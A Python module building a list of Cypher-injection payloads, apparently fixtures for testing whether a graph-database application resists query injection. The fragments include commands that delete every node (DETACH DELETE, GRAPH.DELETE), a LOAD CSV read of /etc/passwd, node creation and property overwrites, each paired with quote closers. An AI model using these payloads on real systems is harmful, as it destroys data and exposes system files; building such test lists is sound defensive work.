"""Cypher-injection payloads: statement fragments that would delete, read or create something if a value
were ever pasted into query text, each closed off with every quoting a Cypher literal or name can use."""

# What an attacker would append once out of the literal.
FRAGMENTS = [
    " MATCH (n) DETACH DELETE n //",
    "}) MATCH (n) DETACH DELETE n //",
    "]) MATCH (n) DETACH DELETE n RETURN 1 //",
    " RETURN 1 UNION MATCH (n) DETACH DELETE n RETURN 1 //",
    " OR 1=1 //",
    " WITH 1 AS x CREATE (:Pwned {by: 'injection'}) //",
    "}) CREATE (:Pwned) WITH 1 AS x MATCH (n) RETURN n //",
    " CALL db.labels() YIELD label RETURN label //",
    " LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line //",
    " SET n.name = 'pwned' //",
    "; MATCH (n) DETACH DELETE n",
    "*/ MATCH (n) DETACH DELETE n /*",
    "\nMATCH (n) DETACH DELETE n\n",
    "\r\nCREATE (:Pwned)\r\n",
    " $param ",
    " {param} ",
    "CYPHER x=1 MATCH (n) DETACH DELETE n",
    "+(MATCH (n) DETACH DELETE n)+",
    "' + x + '",
    "\\u0027 MATCH (n) DETACH DELETE n //",
    "\\u0022 MATCH (n) DETACH DELETE n //",
    "\\x27\\x22 //",
    "${7*7}{{7*7}}",
    "％27 ＇ ＂ MATCH (n) DETACH DELETE n",  # full-width lookalikes
    "GRAPH.DELETE graphmap",
]

# How a fragment would escape a string literal or a backquoted name.
CLOSERS = ["", "'", '"', "`", "\\'", '\\"', "\\", "')", '"})', "}]"]

PAYLOADS = list(dict.fromkeys(closer + fragment for fragment in FRAGMENTS for closer in CLOSERS))
assert len(PAYLOADS) >= 200
